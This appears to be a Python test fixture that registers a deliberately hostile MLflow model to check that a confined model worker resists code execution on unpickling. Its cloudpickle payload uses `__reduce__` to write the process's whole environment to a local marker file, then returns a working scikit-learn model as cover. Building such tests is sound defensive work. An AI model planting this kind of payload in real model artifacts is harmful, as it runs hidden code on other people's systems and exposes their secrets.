"""A registered model whose unpickling runs its author's code, logged through MLflow's own API.

The payload appends one JSON line to a marker file with the process id, the parent's process id
and the whole environment of the process that unpickled it (where it can reach the file: the
confined model worker cannot), then returns a working
scikit-learn model (k-nearest neighbours: no native importances, so a worker that runs it
computes permutation importance). Its module is pickled by value (cloudpickle), so unpickling
needs nothing on sys.path: exactly what a model from another team's machine looks like.

The run also logs `data/reference.parquet` and `data/current.parquet` (drift evidence works)
and no `feature_importance.json`.
"""

from __future__ import annotations

import importlib
import json
import os
import pickle
import sys
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

PAYLOAD = """
import json, os, pickle


def detonate(marker, model_bytes):
    record = {"pid": os.getpid(), "ppid": os.getppid(), "env": dict(os.environ)}
    try:
        with open(marker, "a", encoding="utf-8") as fh:
            fh.write(json.dumps(record) + "\\n")
    except OSError:
        pass  # a confined worker sees no such folder: carry on, as a real attacker would
    return pickle.loads(model_bytes)


class Hostile:
    def __init__(self, marker, model_bytes):
        self.marker, self.model_bytes = marker, model_bytes

    def __reduce__(self):
        return (detonate, (self.marker, self.model_bytes))
"""
FEATURES = ("a", "b", "c")


@dataclass(frozen=True)
class HostileModel:
    name: str
    version: str
    run_id: str
    marker: Path

    def records(self) -> list[dict[str, Any]]:
        """Every unpickling so far: {"pid", "ppid", "env"} per line of the marker."""
        if not self.marker.is_file():
            return []
        lines = self.marker.read_text(encoding="utf-8").splitlines()
        return [json.loads(line) for line in lines if line.strip()]


def frames(seed: int = 0) -> tuple[pd.DataFrame, pd.DataFrame]:
    rng = np.random.default_rng(seed)
    x = rng.normal(size=(240, 3))
    reference = pd.DataFrame(x, columns=list(FEATURES))
    reference["target"] = (x[:, 0] + 0.2 * x[:, 1] > 0).astype(int)
    current = reference.copy()
    current["a"] = current["a"] + 1.5  # a drifted batch
    return reference, current


def log_hostile_model(tracking_uri: str, root: Path, name: str = "hostile-model") -> HostileModel:
    """Register `name` v1 in the store at `tracking_uri`; its artifacts live under `root`."""
    import cloudpickle
    import mlflow
    from mlflow import MlflowClient
    from sklearn.neighbors import KNeighborsClassifier

    root.mkdir(parents=True, exist_ok=True)
    marker = root / "marker.jsonl"
    module_name = f"countersign_payload_{uuid.uuid4().hex[:8]}"
    (root / f"{module_name}.py").write_text(PAYLOAD, encoding="utf-8")
    sys.path.insert(0, str(root))
    try:
        module = importlib.import_module(module_name)
    finally:
        sys.path.remove(str(root))
    cloudpickle.register_pickle_by_value(module)
    reference, current = frames()
    knn = KNeighborsClassifier(n_neighbors=5).fit(reference[list(FEATURES)], reference["target"])
    hostile = module.Hostile(str(marker), pickle.dumps(knn))

    client = MlflowClient(tracking_uri=tracking_uri, registry_uri=tracking_uri)
    exp_id = client.create_experiment(
        f"{name}-{uuid.uuid4().hex[:6]}", artifact_location=(root / "artifacts").as_uri()
    )
    run = client.create_run(exp_id, tags={"mlflow.user": "mallory"})
    client.log_metric(run.info.run_id, "accuracy", 0.9)
    data = root / "data"
    data.mkdir(exist_ok=True)
    reference.to_parquet(data / "reference.parquet", index=False)
    current.to_parquet(data / "current.parquet", index=False)
    client.log_artifacts(run.info.run_id, str(data), "data")
    previous = mlflow.get_tracking_uri()
    previous_env = os.environ.get("MLFLOW_TRACKING_URI")
    mlflow.set_tracking_uri(tracking_uri)
    try:
        with mlflow.start_run(run_id=run.info.run_id):
            info = mlflow.sklearn.log_model(
                hostile,
                name="model",
                serialization_format="cloudpickle",
                pip_requirements=["scikit-learn", "cloudpickle"],
            )
        # Resolving the LoggedModel goes through MLflow's global tracking URI.
        if not client.search_registered_models(filter_string=f"name = '{name}'"):
            client.create_registered_model(name)
        mv = client.create_model_version(
            name, source=info.model_uri, run_id=run.info.run_id, model_id=info.model_id
        )
    finally:
        mlflow.set_tracking_uri(previous)
        if previous_env is None:  # set_tracking_uri also writes the variable
            os.environ.pop("MLFLOW_TRACKING_URI", None)
        else:
            os.environ["MLFLOW_TRACKING_URI"] = previous_env
        cloudpickle.unregister_pickle_by_value(module)
        sys.modules.pop(module_name, None)
    assert not marker.exists(), "logging the model must not run its payload"
    return HostileModel(name, str(mv.version), run.info.run_id, marker)
